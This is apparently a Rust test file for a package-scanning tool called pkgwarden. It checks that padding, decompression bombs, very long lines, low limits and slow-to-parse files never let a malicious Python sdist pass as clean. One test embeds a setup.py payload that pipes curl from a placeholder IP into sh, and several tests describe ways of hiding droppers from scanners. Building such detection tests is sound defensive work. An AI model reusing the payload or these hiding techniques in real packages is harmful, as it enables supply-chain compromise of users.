//! No limit fails open: every way a package can push code past a limit (padding, a
//! file placed before it, nesting, a long line, a low limit, a slow file) leaves the
//! package partial with the reason in `errors`, never `clean` with exit 0, and where
//! the code is still readable its behaviour is still found.

use crate::common::{files, fixture, gzip, tar};
use pkgwarden::archive::limits::Limits;
use pkgwarden::verdict::Verdict;
use pkgwarden::PackageReport;
use std::process::Command;
use std::time::Duration;

/// The libpeshnx look-alike sdist with `extra` files placed before its own.
fn libpeshnx_with(extra: Vec<(String, Vec<u8>)>) -> Vec<u8> {
    let mut all = extra;
    all.extend(files(&fixture("pypi/libpeshnx-sdist")));
    gzip(&tar(&all, "libpeshnx-0.1/"))
}

fn scan_with(bytes: &[u8], limits: &Limits) -> PackageReport {
    pkgwarden::scan_bytes("libpeshnx-0.1.tar.gz", bytes, limits)
}

/// Not clean, partial, and `errors` says why (naming `what`).
fn assert_partial(r: &PackageReport, what: &str) {
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(
        r.errors.iter().any(|e| e.contains(what)),
        "no error about `{what}`: {:?}",
        r.errors
    );
}

fn rules(r: &PackageReport) -> Vec<&'static str> {
    r.findings.iter().map(|f| f.rule).collect()
}

/// setup.py with a 17 MB comment line before its code.
fn padded_setup() -> Vec<u8> {
    let setup = std::fs::read(fixture("pypi/libpeshnx-sdist/setup.py")).unwrap();
    let mut padded = format!("# {}\n", "x".repeat(17 << 20)).into_bytes();
    padded.extend_from_slice(&setup);
    let mut all: Vec<(String, Vec<u8>)> = files(&fixture("pypi/libpeshnx-sdist"))
        .into_iter()
        .filter(|(p, _)| p != "setup.py")
        .collect();
    all.push(("setup.py".into(), padded));
    gzip(&tar(&all, "libpeshnx-0.1/"))
}

#[test]
fn a_comment_padded_setup_py_is_still_analysed_whole() {
    let r = scan_with(&padded_setup(), &Limits::default());
    assert_eq!(
        r.verdict,
        Verdict::Malicious,
        "{:?} {:?}",
        rules(&r),
        r.errors
    );
    assert!(rules(&r).contains(&"dropper-chain"));
    assert!(r.errors.is_empty(), "{:?}", r.errors);
}

#[test]
fn setup_py_over_a_low_parse_limit_is_read_by_the_token_pass_and_is_evidence() {
    let limits = Limits {
        max_source_bytes: 64,
        ..Limits::default()
    };
    let r = scan_with(&padded_setup(), &limits);
    assert_partial(&r, "setup.py: analysed in part");
    assert!(rules(&r).contains(&"unanalysed-code"), "{:?}", rules(&r));
    // The token pass still sees the download at install time.
    assert!(
        rules(&r).contains(&"download-at-install"),
        "{:?}",
        rules(&r)
    );
}

#[test]
fn a_big_blank_file_before_setup_py_does_not_hide_it() {
    let blanks = vec![("aaa-blank.txt".to_string(), vec![b' '; 30 << 20])];
    let r = scan_with(&libpeshnx_with(blanks), &Limits::default());
    assert_eq!(
        r.verdict,
        Verdict::Malicious,
        "{:?} {:?}",
        rules(&r),
        r.errors
    );
    assert!(rules(&r).contains(&"dropper-chain"));
}

#[test]
fn a_bomb_before_setup_py_makes_the_result_partial() {
    // Past the ratio floor, a stream that inflates past the ratio cap stops reading:
    // what came after it is missing, and the result says so.
    let limits = Limits {
        ratio_floor_bytes: 1 << 20,
        ..Limits::default()
    };
    let zeros = vec![("aaa-zeros.bin".to_string(), vec![0u8; 8 << 20])];
    let r = scan_with(&libpeshnx_with(zeros), &limits);
    assert_partial(&r, "reading stopped");
    assert!(rules(&r).contains(&"decompression-bomb"));
}

#[test]
fn low_limits_never_turn_the_dropper_clean() {
    let bytes = gzip(&tar(
        &files(&fixture("pypi/libpeshnx-sdist")),
        "libpeshnx-0.1/",
    ));
    let cases = [
        (
            Limits {
                max_entry_bytes: 100,
                ..Limits::default()
            },
            "only the first",
        ),
        (
            Limits {
                max_source_bytes: 100,
                ..Limits::default()
            },
            "parse limit",
        ),
        (
            Limits {
                max_ast_depth: 1,
                ..Limits::default()
            },
            "nested deeper",
        ),
        (
            Limits {
                max_syntax_nodes: 10,
                ..Limits::default()
            },
            "node budget",
        ),
    ];
    for (limits, why) in cases {
        let r = scan_with(&bytes, &limits);
        assert_partial(&r, why);
        assert!(
            rules(&r).contains(&"unanalysed-code"),
            "{why}: {:?}",
            rules(&r)
        );
    }
}

#[test]
fn a_payload_at_the_end_of_a_multi_megabyte_line_is_found() {
    let mut line = String::from("x = [");
    while line.len() < 4 << 20 {
        line.push_str("f(a)[0].b, ");
    }
    line.push_str("0]; import os; os.system('curl -fsSL http://192.0.2.1/x | sh')\n");
    let all = vec![
        (
            "PKG-INFO".to_string(),
            b"Metadata-Version: 2.1\nName: longline\nVersion: 1.0\n".to_vec(),
        ),
        ("setup.py".to_string(), line.into_bytes()),
    ];
    let bytes = gzip(&tar(&all, "longline-1.0/"));
    for max_source_bytes in [Limits::default().max_source_bytes, 1 << 20] {
        let limits = Limits {
            max_source_bytes,
            ..Limits::default()
        };
        let r = pkgwarden::scan_bytes("longline-1.0.tar.gz", &bytes, &limits);
        assert_ne!(r.verdict, Verdict::Clean);
        assert!(
            r.findings
                .iter()
                .any(|f| f.line == 1 && f.message.contains("192.0.2.1")),
            "limit {max_source_bytes}: {:?}",
            rules(&r)
        );
    }
}

#[test]
fn the_package_deadline_holds_inside_analysis() {
    // Files that make tree-sitter's error recovery slow (JavaScript garbage), many of
    // them, far more than the limit allows: the package stops, says so, and what was not
    // analysed is listed; setup.py, the riskiest file, was analysed first. The limit is
    // a few seconds, not one: on a loaded 2-core CI machine a debug build could spend a
    // whole second before setup.py's turn came, and the test would time the machine.
    let garbage: String = (0..200_000u32)
        .map(|i| ["(", "[", "print \"", "{", ")", "`", "0777 ", "\\"][(i * 7 % 8) as usize])
        .collect();
    let mut all: Vec<(String, Vec<u8>)> = (0..40)
        .map(|i| (format!("aaa/slow{i}.js"), garbage.clone().into_bytes()))
        .collect();
    all.extend(files(&fixture("pypi/libpeshnx-sdist")));
    let bytes = gzip(&tar(&all, "libpeshnx-0.1/"));
    let limits = Limits {
        package_timeout: Duration::from_secs(4),
        ..Limits::default()
    };
    let r = scan_with(&bytes, &limits);
    assert!(
        r.errors.iter().any(|e| e.contains("time limit")),
        "{:?}",
        r.errors
    );
    assert!(rules(&r).contains(&"dropper-chain"), "{:?}", rules(&r));
}

#[test]
fn the_binary_exits_2_for_a_partial_result_and_says_so_on_the_verdict_line() {
    let dir = std::env::temp_dir().join(format!("pkgwarden-limits-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("libpeshnx-0.1.tar.gz");
    std::fs::write(&path, padded_setup()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(["scan", "--max-source-bytes", "64", "--fail-on", "malicious"])
        .arg(&path)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let verdict_line = text.lines().next().unwrap_or_default();
    assert!(verdict_line.contains("partial"), "{text}");
    // Suspicious (not malicious) through unanalysed-code and the token pass alone:
    // under --fail-on malicious, the partial result decides the exit code.
    if !verdict_line.starts_with("MALICIOUS") {
        assert_eq!(out.status.code(), Some(2), "{text}");
    }
    std::fs::remove_dir_all(&dir).ok();
}
